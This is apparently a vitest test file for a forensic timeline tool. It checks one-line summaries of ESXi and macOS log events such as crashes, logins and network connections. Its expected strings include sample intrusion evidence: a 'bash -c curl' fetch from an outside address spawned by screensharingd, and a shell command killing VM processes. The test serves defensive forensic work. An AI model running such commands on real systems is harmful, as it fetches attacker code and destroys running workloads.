import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import type { Event } from '../../src/model/index.ts';
import { PARSERS } from '../../src/parsers/index.ts';
import { summarizeEsxi } from '../../src/timeline/summary/esxi.ts';
import { summarizeMacos } from '../../src/timeline/summary/macos.ts';
import { artifactOf, logOf, parseAll } from '../support/evidence.ts';

const summarize = (event: Event): string | undefined => summarizeEsxi(event) ?? summarizeMacos(event);
const eventsOf = async (format: string, file: string): Promise<Event[]> => {
  const parser = PARSERS.find(({ name }) => name === format)!;
  return (await parseAll(parser, logOf(artifactOf(file, readFileSync(`samples/${format}/${file}`))))).events;
};
const linesOf = async (format: string, file: string): Promise<string[]> =>
  (await eventsOf(format, file)).flatMap(event => summarize(event) ?? []);

describe.each(['esxi', 'macos-unifiedlog', 'macos-crash', 'macos-log', 'osquery'])('%s', format => {
  test('whatever it knows it says in one line of its own, never empty', async () => {
    for (const file of readdirSync(`samples/${format}`).filter(name => name !== 'README.md')) {
      for (const event of await eventsOf(format, file)) {
        const line = summarize(event);
        if (line === undefined) continue;
        expect(line.trim()).not.toBe('');
        expect(line).not.toMatch(/[\n\r]|undefined|\[object|NaN/);
      }
    }
  });
});

test.each([
  ['esxi', 'vmkernel-8.log', 'hostd (hostd-worker) crashed: SIGSEGV'],
  ['esxi', 'vmkernel-8.log', 'hostd does not answer'],
  [
    'esxi',
    'vmkernel-7-psod.log',
    'purple screen: #PF Exception 14 in world 2097400:nfnic-tx IP 0x418017c01a2e addr 0x0',
  ],
  ['esxi', 'hostd-8.log', 'root logged in to hostd from 10.20.0.15'],
  ['esxi', 'hostd-8.log', 'administrator failed to log in to hostd from 192.0.2.77'],
  ['esxi', 'hostd-8.log', 'erp01 stopped, and no task had asked for it'],
  ['esxi', 'shell.log', "root typed: kill -9 $(ps | grep vmx | awk '{print $2}')"],
  ['esxi', 'shell.log', "kill ended vmx, a virtual machine's process"],
  ['esxi', 'syslog.log', 'vpxa was restarted by an operator'],
  ['esxi', 'auth.log', 'root logged in by SSH from 172.31.255.6'],
  ['esxi', 'forwarded.log', 'rhttpproxy accepted a connection from 10.20.0.99:52344'],
  ['esxi', 'vobd-8.log', 'the host booted after an unexplained power loss'],
  ['macos-unifiedlog', 'export.ndjson', 'ada failed to share the screen from 203.0.113.40'],
  ['macos-unifiedlog', 'export.ndjson', 'screensharingd was restarted'],
  ['macos-unifiedlog', 'export.ndjson', 'ada ran as root: /bin/launchctl kickstart -k system/com.apple.smbd'],
  ['macos-log', 'launchd.log', 'httpd failed: exit(1), ran for 12ms'],
  ['macos-crash', 'screensharingd_2025-07-27-154145_labmac-7.crash', 'screensharingd crashed: SIGSEGV'],
  ['osquery', 'osqueryd.results.log', 'screensharingd → bash started: bash -c curl http://203.0.113.40/p'],
  ['osquery', 'osqueryd.results.log', 'curl connected: 10.30.0.8:50412 → 203.0.113.40:80'],
  ['osquery', 'osqueryd.results.log', 'screensharingd was reached: 203.0.113.40:50991 → 10.30.0.8:5900'],
])('%s/%s: %s', async (format, file, line) => {
  expect(await linesOf(format, file)).toContain(line);
});

test('an event of another system is left to others', () => {
  expect(
    summarize({ 'event.dataset': 'linux.syslog', 'event.action': ['process_crash'] } as unknown as Event),
  ).toBeUndefined();
});
